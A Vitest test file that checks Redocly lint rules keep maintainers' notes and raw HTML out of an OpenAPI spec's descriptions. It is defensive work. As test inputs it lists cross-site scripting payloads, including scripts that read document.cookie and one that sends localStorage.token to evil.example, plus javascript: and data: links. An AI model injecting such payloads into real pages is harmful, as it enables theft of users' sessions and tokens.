import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { lintSpec } from "../../scripts/lib/redocly.mjs";

/*
 * Descriptions speak to the API's users (they are shown in the API reference and as JSDoc of the generated types);
 * where a fact comes from goes into `x-iwerp-provenance` or a YAML comment. redocly.yaml's rule
 * `rule/no-provenance-in-descriptions` keeps maintainers' notes out of every description.
 * Redoc renders a description's Markdown as HTML, raw HTML included, with its `sanitize` off (Redocly CLI 2's
 * build-docs fails with it on): `rule/no-html-in-descriptions` keeps raw HTML and script links out.
 */

const ROOT = path.resolve(import.meta.dirname, "../..");
let root: string;

beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), "iwerp-descriptions-"));
  for (const entry of ["openapi", "redocly.yaml"]) await cp(path.join(ROOT, entry), path.join(root, entry), { recursive: true });
});
afterAll(() => rm(root, { recursive: true, force: true }));

/** Sets the description of the participant's `nickname` in the copy. */
async function describeNickname(text: string): Promise<void> {
  const file = path.join(root, "openapi/components/schemas/ChatroomParticipant.yaml");
  const yaml = await readFile(file, "utf8");
  const marker = "  nickname:\n    type: string\n";
  if (!yaml.includes(marker)) throw new Error("ChatroomParticipant.yaml no longer has nickname as expected: update this test");
  await writeFile(file, yaml.replace(/  nickname:\n    type: string\n(    description: .*\n)?/, `${marker}    description: ${JSON.stringify(text)}\n`));
}

describe("maintainers' notes stay out of descriptions", () => {
  test("the spec as it is passes the lint, its notes in x-iwerp-provenance", async () => {
    const yaml = await readFile(path.join(root, "openapi/components/schemas/ChatroomParticipant.yaml"), "utf8");
    expect(yaml).toContain("  nickname:\n    type: string\n    x-iwerp-provenance: Shown only in some versions of the reference page.\n");
    await expect(lintSpec({ root })).resolves.toMatch(/no errors, no warnings/);
  }, 60_000);

  test.each([
    "Shown only in some versions of the reference page.",
    "The `.md` variant of the POST page also shows it.",
    "It is left out here: the other pages do not show it.",
    "It follows from public client code.",
  ])("a description saying %j fails the lint, naming the rule and the file", async (text) => {
    await describeNickname(text);

    const error = await lintSpec({ root }).then(() => undefined, (e: unknown) => e);

    expect(String(error)).toContain("rule/no-provenance-in-descriptions");
    expect(String(error)).toContain("openapi/components/schemas/ChatroomParticipant.yaml");
    expect(String(error)).toContain("x-iwerp-provenance");
  }, 60_000);
});

describe("descriptions carry no raw HTML, since the API reference shows them as HTML", () => {
  test.each([
    // Runs in the built page, CSP and all: the frame's inline script inherits the page's 'unsafe-inline'.
    'Her name. <iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>',
    "Her name. <img src=x onerror=alert(document.cookie)>",
    "Her name.\n\n<script>fetch('https://evil.example/?' + localStorage.token)</script>",
    "Her name, `<b>` is code but this is not: </b>",
    "Her name. <!-- a comment hides -->",
    "Her [profile](javascript:alert(1)).",
    "Her [profile]( DATA:text/html;base64,PHNjcmlwdD4=).",
  ])("a description %j fails the lint, naming the rule, the file and what to write", async (text) => {
    await describeNickname(text);

    const error = await lintSpec({ root }).then(() => undefined, (e: unknown) => e);

    expect(String(error)).toContain("rule/no-html-in-descriptions");
    expect(String(error)).toContain("openapi/components/schemas/ChatroomParticipant.yaml");
    expect(String(error)).toContain("put markup in backticks");
  }, 60_000);

  test("markup in backticks, an autolink, a less-than sign and a Markdown link pass", async () => {
    await describeNickname("Shown as `<b>name</b>` at `https://<tenant>.iw-erp.de`, see <https://iw-erp.de>; 1 < 2, [docs](https://iw-erp.de).");

    await expect(lintSpec({ root })).resolves.toMatch(/no errors, no warnings/);
  }, 60_000);
});
